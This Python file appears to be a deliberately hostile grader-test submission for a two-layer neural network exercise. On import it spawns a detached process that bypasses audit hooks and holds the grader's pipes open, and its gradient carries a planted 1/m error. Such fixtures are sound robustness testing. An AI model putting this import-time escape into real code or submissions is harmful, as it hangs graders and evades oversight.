"""Hostile (lying): at import, starts a process in its own session through
_posixsubprocess.fork_exec (no audit event) that inherits every fd of the child, made
inheritable first: the output pipe (fds 1 and 2) and the protocol pipes never reach their
end. It writes nothing and exits only when the grader closes its end of the output pipe
(poll() then reports POLLERR), or after 60 s. The grader must not wait for the end of
those pipes (a drain blocked for ever, a stream closed under a blocked read) and must close
its own ends, which ends that process. If the start is refused the import fails (GC002);
if not, dW1 lacks the 1/m (GC302)."""
import numpy as np


def sigmoid(z):
    """Compute the sigmoid of z."""
    return 1 / (1 + np.exp(-z))

def forward_propagation(X, parameters):
    """
    Argument:
    X -- input data of size (n_x, m)
    parameters -- python dictionary containing your parameters (output of initialization function)

    Returns:
    A2 -- The sigmoid output of the second activation
    cache -- a dictionary containing "Z1", "A1", "Z2" and "A2"
    """
    W1 = parameters["W1"]
    b1 = parameters["b1"]
    W2 = parameters["W2"]
    b2 = parameters["b2"]

    Z1 = np.dot(W1, X) + b1
    A1 = np.tanh(Z1)
    Z2 = np.dot(W2, A1) + b2
    A2 = sigmoid(Z2)

    assert A2.shape == (1, X.shape[1])

    cache = {"Z1": Z1,
             "A1": A1,
             "Z2": Z2,
             "A2": A2}

    return A2, cache


def compute_cost(A2, Y):
    """
    Computes the cross-entropy cost given in equation (13)

    Arguments:
    A2 -- The sigmoid output of the second activation, of shape (1, number of examples)
    Y -- "true" labels vector of shape (1, number of examples)

    Returns:
    cost -- cross-entropy cost given equation (13)
    """
    m = Y.shape[1]

    logprobs = np.multiply(np.log(A2), Y) + np.multiply(np.log(1 - A2), 1 - Y)
    cost = -np.sum(logprobs) / m

    cost = float(np.squeeze(cost))

    return cost


def backward_propagation(parameters, cache, X, Y):
    """
    Implement the backward propagation using the instructions above.

    Arguments:
    parameters -- python dictionary containing our parameters
    cache -- a dictionary containing "Z1", "A1", "Z2" and "A2".
    X -- input data of shape (2, number of examples)
    Y -- "true" labels vector of shape (1, number of examples)

    Returns:
    grads -- python dictionary containing your gradients with respect to different parameters
    """
    m = X.shape[1]
    W1 = parameters["W1"]
    W2 = parameters["W2"]

    A1 = cache["A1"]
    A2 = cache["A2"]

    dZ2 = A2 - Y
    dW2 = (1 / m) * np.dot(dZ2, A1.T)
    db2 = (1 / m) * np.sum(dZ2, axis=1, keepdims=True)
    dZ1 = np.dot(W2.T, dZ2) * (1 - np.power(A1, 2))
    dW1 = np.dot(dZ1, X.T)
    db1 = (1 / m) * np.sum(dZ1, axis=1, keepdims=True)

    grads = {"dW1": dW1,
             "db1": db1,
             "dW2": dW2,
             "db2": db2}

    return grads




import os as _os  # noqa: E402
import sys as _sys  # noqa: E402

_HOLDER = """
import select, time
poller = select.poll()
poller.register(2, 0)
end = time.monotonic() + 60
while time.monotonic() < end and not poller.poll(200):
    pass
"""


def _escape():
    import _posixsubprocess

    for fd in range(3, 256):
        try:
            _os.set_inheritable(fd, True)
        except OSError:
            pass
    err_r, err_w = _os.pipe()
    exe = _os.fsencode(_sys.executable)
    args = [exe, b"-I", b"-c", _HOLDER.encode()]
    tail = (True, True)  # restore_signals, call_setsid: a session of its own, out of the child's group
    try:  # Python 3.11 and 3.12
        _posixsubprocess.fork_exec(args, [exe], False, (), None, None, -1, -1, -1, -1, -1, -1, err_r, err_w, *tail, -1,
                                   None, None, None, -1, None, True)
    except TypeError:  # Python 3.10
        _posixsubprocess.fork_exec(args, [exe], False, (), None, None, -1, -1, -1, -1, -1, -1, err_r, err_w, *tail,
                                   None, None, None, -1, None)


_escape()
